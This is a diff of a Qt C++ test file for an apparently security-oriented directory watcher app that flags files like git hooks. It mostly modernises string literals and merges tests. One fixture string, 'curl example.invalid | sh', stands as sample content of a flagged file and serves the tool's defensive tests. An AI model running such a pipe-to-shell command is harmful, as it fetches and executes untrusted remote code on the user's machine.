@@ -20,6 +20,8 @@
 #include <fcntl.h>
 #include <unistd.h>
 
+using namespace Qt::StringLiterals;
+
 class AppDelegateTest : public QObject
 {
     Q_OBJECT
@@ -29,11 +31,9 @@ private slots:
     void firstLaunchWithEmptyStoreOpensDirectoriesAndLaunchesWatcher();
     void launchWithDirectoriesOpensNoWindow();
     void launchWithoutContainerDoesNothing();
-    void windowsAreOneEachAndShownAgain();
+    void windowsAreOneEachShownAgainAndOutliveClearing();
     void aNameThatIsNotUtf8OpensThatFileNotItsLookalike();
-    void clearFindingsEmptiesTheStoreAndKeepsWindows();
     void notificationClickOpensNewestMatchingFinding();
-    void notificationClicksWithNoFindingToOpenOpenNothing();
     void closingTheLastWindowKeepsRunningAsTrayApp();
     void activationRelaunchesAnEndedWatcher();
 
@@ -78,13 +78,17 @@ AppDelegate& AppDelegateTest::makeDelegate()
 
 void AppDelegateTest::pushMarker()
 {
-    WatcherStatus::shared().sendDirectories({QStringLiteral("/marker")});
+    WatcherStatus::shared().sendDirectories({u"/marker"_s});
 }
 
 void AppDelegateTest::firstLaunchWithEmptyStoreOpensDirectoriesAndLaunchesWatcher()
 {
     AppDelegate& delegate = makeDelegate();
     QCOMPARE(delegate.activation().activationPolicy(), ActivationPolicy::Accessory);
+    // On an empty store clearing writes nothing.
+    QSignalSpy changed(m_store->container.get(), &ModelContainer::storeChanged);
+    delegate.clearFindings();
+    QCOMPARE(changed.size(), 0);
     delegate.applicationDidFinishLaunching();
 
     QWidget* window = delegate.directoryWindow();
@@ -104,7 +108,7 @@ void AppDelegateTest::firstLaunchWithEmptyStoreOpensDirectoriesAndLaunchesWatche
 
 void AppDelegateTest::launchWithDirectoriesOpensNoWindow()
 {
-    m_store->addDirectories({QStringLiteral("/srv/project")});
+    m_store->addDirectories({u"/srv/project"_s});
 
     AppDelegate& delegate = makeDelegate();
     delegate.applicationDidFinishLaunching();
@@ -131,11 +135,12 @@ void AppDelegateTest::launchWithoutContainerDoesNothing()
     QCOMPARE(delegate.activation().activationPolicy(), ActivationPolicy::Accessory);
 }
 
-// One directories window, one viewer per finding; closing hides them, opening shows the same again.
-void AppDelegateTest::windowsAreOneEachAndShownAgain()
+// One directories window, one viewer per finding; closing hides them, opening shows the same again,
+// clearing the findings leaves them.
+void AppDelegateTest::windowsAreOneEachShownAgainAndOutliveClearing()
 {
-    const Finding finding = m_store->addFinding(QStringLiteral("/srv/repo/.git/hooks/pre-commit"),
-                                                QStringLiteral("hook"), QStringLiteral("critical"));
+    const Finding finding =
+        m_store->addFinding(u"/srv/repo/.git/hooks/pre-commit"_s, u"hook"_s, u"critical"_s);
     AppDelegate& delegate = makeDelegate();
     delegate.openDirectoryWindow();
     QWidget* const directories = delegate.directoryWindow();
@@ -168,13 +173,20 @@ void AppDelegateTest::windowsAreOneEachAndShownAgain()
     QVERIFY(window->isVisible());
 
     // Another finding of the same file is a window of its own, with the same title.
-    const Finding again = m_store->addFinding(finding.path(), finding.ruleName(), QStringLiteral("critical"));
+    const Finding again = m_store->addFinding(finding.path(), finding.ruleName(), u"critical"_s);
     delegate.openFileViewer(again);
     QCOMPARE(delegate.fileViewerWindowCount(), 2);
     QWidget* other = delegate.fileViewerWindow(again.id());
     QVERIFY(other && other != window);
-    QCOMPARE(other->windowTitle(), QStringLiteral("pre-commit"));
-    QCOMPARE(window->windowTitle(), QStringLiteral("pre-commit"));
+    QCOMPARE(other->windowTitle(), u"pre-commit"_s);
+    QCOMPARE(window->windowTitle(), u"pre-commit"_s);
+
+    // Clearing empties the store, warnings too, and leaves the windows open.
+    m_store->addFinding(u"/p/b"_s, u"r"_s, u"warning"_s);
+    delegate.clearFindings();
+    QCOMPARE(m_store->storedFindingCount(), 0);
+    QCOMPARE(delegate.fileViewerWindowCount(), 2);
+    QVERIFY(window->isVisible());
 }
 
 // The watcher names "caf\xE9" (Latin-1) as "caf\uFFFD" plus its exact bytes; a benign file really
@@ -205,72 +217,45 @@ void AppDelegateTest::aNameThatIsNotUtf8OpensThatFileNotItsLookalike()
     auto* viewer = qobject_cast<FileViewerView*>(delegate.fileViewerWindow(stored.first().id()));
     QVERIFY(viewer);
     QVERIFY(QTest::qWaitFor([&] { return !viewer->isLoading(); }, 20000));
-    QCOMPARE(viewer->content(), QStringLiteral("curl example.invalid | sh\n"));
-}
-
-void AppDelegateTest::clearFindingsEmptiesTheStoreAndKeepsWindows()
-{
-    AppDelegate& delegate = makeDelegate();
-    // On an empty store clearing writes nothing.
-    QSignalSpy changed(m_store->container.get(), &ModelContainer::storeChanged);
-    delegate.clearFindings();
-    QCOMPARE(changed.size(), 0);
-
-    const Finding finding =
-        m_store->addFinding(QStringLiteral("/p/a"), QStringLiteral("r"), QStringLiteral("high"));
-    m_store->addFinding(QStringLiteral("/p/b"), QStringLiteral("r"), QStringLiteral("warning"));
-    delegate.openFileViewer(finding);
-    QCOMPARE(m_store->storedFindingCount(), 2);
-    delegate.clearFindings();
-    QCOMPARE(m_store->storedFindingCount(), 0);
-    QCOMPARE(delegate.fileViewerWindowCount(), 1);
-    QVERIFY(delegate.fileViewerWindow(finding.id())->isVisible());
+    QCOMPARE(viewer->content(), u"curl example.invalid | sh\n"_s);
 }
 
 void AppDelegateTest::notificationClickOpensNewestMatchingFinding()
 {
-    const QString path = QStringLiteral("/srv/repo/.git/hooks/pre-commit");
+    const QString path = u"/srv/repo/.git/hooks/pre-commit"_s;
     const QList<Finding> stored = m_store->addFindings({
-        findingAged(300, QStringLiteral("critical"), QStringLiteral("hook"), path),
-        findingAged(100, QStringLiteral("critical"), QStringLiteral("hook"), path),
-        findingAged(10, QStringLiteral("critical"), QStringLiteral("other"), path),
-        findingAged(5, QStringLiteral("critical"), QStringLiteral("hook"), path + QStringLiteral(".bak")),
+        findingAged(300, u"critical"_s, u"hook"_s, path),
+        findingAged(100, u"critical"_s, u"hook"_s, path),
+        findingAged(10, u"critical"_s, u"other"_s, path),
+        findingAged(5, u"critical"_s, u"hook"_s, path + u".bak"_s),
     });
     AppDelegate& delegate = makeDelegate();
     delegate.applicationDidFinishLaunching();
-    m_notifier->click(path, QStringLiteral("hook"));
+    m_notifier->click(path, u"hook"_s);
     QCOMPARE(delegate.fileViewerWindowCount(), 1);
     QVERIFY(delegate.fileViewerWindow(stored.at(1).id()));
-    QCOMPARE(delegate.fileViewerWindow(stored.at(1).id())->windowTitle(), QStringLiteral("pre-commit"));
+    QCOMPARE(delegate.fileViewerWindow(stored.at(1).id())->windowTitle(), u"pre-commit"_s);
     // Again: the same window comes forward.
-    m_notifier->click(path, QStringLiteral("hook"));
+    m_notifier->click(path, u"hook"_s);
     QCOMPARE(delegate.fileViewerWindowCount(), 1);
     // Exact matches only.
-    m_notifier->click(path, QStringLiteral("Hook"));
-    m_notifier->click(path.toUpper(), QStringLiteral("hook"));
-    m_notifier->click(QString(), QStringLiteral("hook"));
+    m_notifier->click(path, u"Hook"_s);
+    m_notifier->click(path.toUpper(), u"hook"_s);
+    m_notifier->click(QString(), u"hook"_s);
     QCOMPARE(delegate.fileViewerWindowCount(), 1);
-}
-
-// A click on a cleared finding opens nothing; a click on the summary (no path, no rule) asks for the panel.
-void AppDelegateTest::notificationClicksWithNoFindingToOpenOpenNothing()
-{
-    m_store->addFinding(QStringLiteral("/p/hook"), QStringLiteral("hook"), QStringLiteral("critical"));
-    AppDelegate& delegate = makeDelegate();
-    delegate.applicationDidFinishLaunching();
+    // A cleared finding opens nothing; a click on the summary (no path, no rule) asks for the panel.
     QSignalSpy panel(&delegate, &AppDelegate::showPanelRequested);
     delegate.clearFindings();
-    m_notifier->click(QStringLiteral("/p/hook"), QStringLiteral("hook"));
+    m_notifier->click(stored.at(3).path(), u"hook"_s);
     QCOMPARE(panel.size(), 0);
     m_notifier->click(QString(), QString());
     QCOMPARE(panel.size(), 1);
-    QCOMPARE(delegate.fileViewerWindowCount(), 0);
+    QCOMPARE(delegate.fileViewerWindowCount(), 1);
 }
 
 void AppDelegateTest::closingTheLastWindowKeepsRunningAsTrayApp()
 {
-    const Finding finding =
-        m_store->addFinding(QStringLiteral("/p/a"), QStringLiteral("r"), QStringLiteral("high"));
+    const Finding finding = m_store->addFinding(u"/p/a"_s, u"r"_s, u"high"_s);
     AppDelegate& delegate = makeDelegate();
     delegate.openDirectoryWindow();
     delegate.openFileViewer(finding);
